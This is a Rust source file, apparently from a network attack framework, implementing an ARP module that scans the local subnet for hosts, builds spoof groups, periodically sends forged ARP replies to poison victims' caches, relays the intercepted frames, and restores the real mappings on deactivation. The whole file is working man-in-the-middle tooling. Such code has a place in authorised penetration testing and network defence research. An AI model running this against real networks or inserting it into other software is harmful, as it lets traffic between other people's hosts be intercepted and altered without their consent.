//! ARP owning task: host discovery, spoof groups and the forged reply sender
//!
//! Active groups have their forged replies replayed once per period, and a
//! wakeup (any group change) replays them at once and restarts the timer.
//! Deactivating a group sends the unforged replies so the victims' caches
//! point at the real hosts again.

use ipnetwork::Ipv4Network;
use loki_core::{
    Change, ChangeKind, Error, InjectorHandle, MacAddr, ModuleContext, Result, SEND_PACING,
};
use parking_lot::RwLock;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::oneshot;
use tokio::time::{self, Instant};
use tracing::{debug, info};

use super::packet::ArpPacket;
use super::spoof::{Host, Relay, SpoofGroup, SpoofId, SpoofTable};
use crate::runtime::{Envelope, Inbox};

pub(crate) const MODULE: &str = "arp";

pub enum ArpCommand {
    Observed { source: MacAddr, packet: ArpPacket },
    /// A frame was forwarded by the relay hook
    Relayed { src: MacAddr, dst: MacAddr },
    AddSpoof {
        upper: Vec<MacAddr>,
        lower: Vec<MacAddr>,
        reply: oneshot::Sender<Result<SpoofId>>,
    },
    Activate(SpoofId, oneshot::Sender<Result<()>>),
    Deactivate(SpoofId, oneshot::Sender<Result<()>>),
    Remove(SpoofId, oneshot::Sender<Result<()>>),
    Wakeup,
    /// Who-has for every address of the local network; replies with the count
    Scan(oneshot::Sender<Result<usize>>),
    Hosts(oneshot::Sender<Vec<Host>>),
    Spoofs(oneshot::Sender<Vec<SpoofGroup>>),
}

/// Addresses covered by a scan of `address`/`mask`, excluding our own
pub fn scan_targets(address: Ipv4Addr, mask: Ipv4Addr) -> Result<Vec<Ipv4Addr>> {
    let network = Ipv4Network::with_netmask(address, mask)
        .map_err(|e| Error::invalid_parameter("netmask".to_string(), e.to_string()))?;
    let edges = network.prefix() < 31;
    Ok(network
        .iter()
        .filter(|ip| *ip != address)
        .filter(|ip| !edges || (*ip != network.network() && *ip != network.broadcast()))
        .collect())
}

pub(crate) struct ArpWorker {
    pub table: SpoofTable,
    pub relay: Arc<RwLock<Relay>>,
    pub injector: InjectorHandle,
    pub mac: MacAddr,
    pub address: Option<(Ipv4Addr, Ipv4Addr)>,
    pub context: ModuleContext,
}

impl ArpWorker {
    pub async fn run(mut self, mut inbox: Inbox<ArpCommand>, period: Duration) {
        let replay = time::sleep(period);
        tokio::pin!(replay);

        loop {
            tokio::select! {
                envelope = inbox.recv() => match envelope {
                    Some(Envelope::Command(command)) => {
                        if self.handle(command).await {
                            replay.as_mut().reset(Instant::now());
                        }
                    }
                    Some(Envelope::Shutdown) | None => break,
                },
                () = &mut replay => {
                    let frames = self.table.active_forged();
                    self.transmit(&frames).await;
                    replay.as_mut().reset(Instant::now() + period);
                }
            }
        }

        let frames = self.table.restore_all();
        if !frames.is_empty() {
            self.context.log.log("ARP: restoring spoofed caches", MODULE);
            self.transmit(&frames).await;
        }
        self.publish_relay();
        debug!(module = MODULE, "worker exiting");
    }

    /// Returns true when the replay timer should fire immediately
    async fn handle(&mut self, command: ArpCommand) -> bool {
        match command {
            ArpCommand::Observed { source, packet } => self.observe(source, &packet),
            ArpCommand::Relayed { src, dst } => self.table.count_relayed(src, dst),
            ArpCommand::AddSpoof {
                upper,
                lower,
                reply,
            } => {
                let result = self.table.add_spoof(&upper, &lower);
                if let Ok(id) = &result {
                    self.context
                        .log
                        .log(&format!("ARP: added {}", id), MODULE);
                    self.context
                        .observer
                        .on_peer_changed(&Change::new(MODULE, id, ChangeKind::Added));
                }
                let _ = reply.send(result);
            }
            ArpCommand::Activate(id, reply) => {
                let result = self.table.activate(id).map(|changed| self.spoofed_changed(&changed));
                let woke = result.is_ok();
                if woke {
                    self.context
                        .log
                        .log(&format!("ARP: {} active", id), MODULE);
                    self.publish_relay();
                }
                let _ = reply.send(result);
                return woke;
            }
            ArpCommand::Deactivate(id, reply) => {
                let result = self.table.deactivate(id);
                let _ = reply.send(self.restore(id, result).await);
            }
            ArpCommand::Remove(id, reply) => {
                let result = self.table.remove(id);
                let outcome = self.restore(id, result).await;
                if outcome.is_ok() {
                    self.context
                        .observer
                        .on_peer_changed(&Change::new(MODULE, id, ChangeKind::Removed));
                }
                let _ = reply.send(outcome);
            }
            ArpCommand::Wakeup => return true,
            ArpCommand::Scan(reply) => {
                let _ = reply.send(self.scan().await);
            }
            ArpCommand::Hosts(reply) => {
                let _ = reply.send(self.table.hosts().cloned().collect());
            }
            ArpCommand::Spoofs(reply) => {
                let _ = reply.send(self.table.groups().cloned().collect());
            }
        }
        false
    }

    fn observe(&mut self, source: MacAddr, packet: &ArpPacket) {
        if let Some(mac) = self.table.learn(source, packet) {
            info!(module = MODULE, host = %mac, ip = %packet.sender_ip, "new host");
            self.context.log.log(
                &format!("ARP: Got new host {} {}", mac, packet.sender_ip),
                MODULE,
            );
            self.context
                .observer
                .on_host_changed(&Change::new(MODULE, mac, ChangeKind::Added));
        }
        if let Some(frame) = self.table.answer(source, packet) {
            debug!(module = MODULE, asker = %source, "answering with ghost reply");
            self.injector.send(frame);
        }
    }

    async fn restore(
        &mut self,
        id: SpoofId,
        result: Result<(Vec<Vec<u8>>, Vec<MacAddr>)>,
    ) -> Result<()> {
        let (frames, changed) = result?;
        self.spoofed_changed(&changed);
        // keep relaying until the victims have the real mappings back
        if !frames.is_empty() {
            self.context
                .log
                .log(&format!("ARP: restoring {}", id), MODULE);
            self.transmit(&frames).await;
        }
        self.publish_relay();
        Ok(())
    }

    fn spoofed_changed(&self, changed: &[MacAddr]) {
        for mac in changed {
            self.context
                .observer
                .on_host_changed(&Change::new(MODULE, mac, ChangeKind::Updated));
        }
    }

    fn publish_relay(&self) {
        *self.relay.write() = self.table.relay();
    }

    async fn scan(&self) -> Result<usize> {
        let (address, mask) = self
            .address
            .ok_or_else(|| Error::module_state(MODULE, "no local address configured"))?;
        let targets = scan_targets(address, mask)?;
        self.context.log.log(
            &format!("ARP: scanning {} addresses", targets.len()),
            MODULE,
        );
        let frames: Vec<Vec<u8>> = targets
            .iter()
            .map(|ip| ArpPacket::request(self.mac, address, *ip).to_frame(MacAddr::broadcast(), self.mac))
            .collect();
        self.transmit(&frames).await;
        Ok(frames.len())
    }

    async fn transmit(&self, frames: &[Vec<u8>]) {
        for (i, frame) in frames.iter().enumerate() {
            if i > 0 {
                time::sleep(SEND_PACING).await;
            }
            self.injector.send(frame.clone());
        }
    }
}
